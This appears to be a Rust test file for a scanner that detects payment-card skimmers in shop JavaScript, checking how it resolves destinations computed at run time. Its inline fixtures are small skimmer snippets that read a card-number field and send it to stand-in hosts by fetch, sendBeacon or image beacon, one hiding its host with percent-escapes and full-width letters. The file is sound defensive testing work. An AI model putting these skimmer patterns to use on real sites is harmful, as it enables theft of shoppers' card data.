//! Destinations built at run time (issue 9, class 2): `new URL(path, base)`, URL objects, a
//! URL set in a class constructor, decoders keyed by object fields, hosts with an unknown first
//! label, arrays mutated before use, percent-encoded hosts; and a value the engine cannot fully
//! know is unknown, never a stale constant. An address read from another server's answer (a
//! DNS TXT record asked of a DoH resolver, a JSON file on a file host) is that server's to
//! decide and is named so; one read from the shop's own API names nothing.

mod engine_support;
use engine_support::{analyse, check_dir};

#[test]
fn destinations_built_at_run_time_are_resolved() {
    let (skim, legit) = check_dir("destinations");
    assert!(
        skim >= 14 && legit >= 5,
        "{skim} skimmers, {legit} legitimate"
    );
}

#[test]
fn a_host_reassigned_in_a_callback_is_unknown_not_stale() {
    let r = analyse(
        "stale.js",
        "var dest = 'https://cdn.decoy-host.example/c';\n\
         setTimeout(function () { dest = 'https://' + location.hash.slice(1) + '/c'; }, 100);\n\
         document.querySelector('#pay').onclick = function () {\n\
           fetch(dest, { method: 'POST', body: document.getElementById('cc_number').value });\n\
         };",
    );
    assert!(
        r.findings
            .iter()
            .all(|f| !f.hosts.iter().any(|h| h.contains("decoy-host"))),
        "a stale constant was reported: {:?}",
        r.findings
    );
    // Card data still goes somewhere the analysis cannot name: reported, not ignored.
    assert!(
        r.findings
            .iter()
            .any(|f| f.rule == "payment-data-unresolved-destination"),
        "{:?}",
        r.findings
    );
}

#[test]
fn an_object_property_changed_inside_a_function_is_not_a_constant() {
    let r = analyse(
        "obj.js",
        "var cfg = { host: 'decoy-host.example' };\n\
         function configure(h) { cfg.host = h; }\n\
         configure(window.name);\n\
         document.querySelector('#pay').onclick = function () {\n\
           navigator.sendBeacon('https://' + cfg.host + '/b', document.getElementById('cc_number').value);\n\
         };",
    );
    assert!(
        r.findings
            .iter()
            .all(|f| !f.hosts.iter().any(|h| h.contains("decoy-host"))),
        "{:?}",
        r.findings
    );
}

#[test]
fn a_partly_known_url_names_its_host_as_the_browser_parses_it() {
    // The URL is not complete (its query is computed), but its host is: written with a
    // percent-escape and full-width letters, which the browser decodes and maps before it
    // connects. The host must be named in the form the browser contacts.
    let r = analyse(
        "partial_host.js",
        "document.querySelector('#pay').addEventListener('click', function () {\n\
           var n = document.getElementById('cc_number').value;\n\
           new Image().src = 'https://%63ollect.\u{ff45}\u{ff58}ample/i?c=' + btoa(n) + '&t=' + Date.now();\n\
         });",
    );
    let hosts: Vec<&String> = r.findings.iter().flat_map(|f| f.hosts.iter()).collect();
    assert!(
        hosts.iter().any(|h| h.as_str() == "collect.example"),
        "{:?}",
        r.findings
    );
}

/// `location.hostname` is the page's host when the scan knows it: the shop's own request
/// built from it is first-party, not a destination computed at run time (a scan of
/// www.shop.example, as the engine's test jobs are).
#[test]
fn the_pages_own_host_from_location_is_first_party() {
    let code = "document.getElementById('pay').addEventListener('click', function () {\n  var body = JSON.stringify({ n: document.getElementById('cc_number').value });\n  fetch('https://' + window.location.hostname + '/rest/V1/carts/mine/payment-information', { method: 'POST', body: body });\n});";
    let r = analyse("own-host.js", code);
    assert!(r.findings.is_empty(), "{:?}", r.findings);
    // The same request to a subdomain label before it is still the shop's site.
    let sub = code.replace(
        "'https://' + window.location.hostname",
        "'https://pay.' + location.host",
    );
    let r = analyse("own-sub.js", &sub);
    assert!(r.findings.is_empty(), "{:?}", r.findings);
}
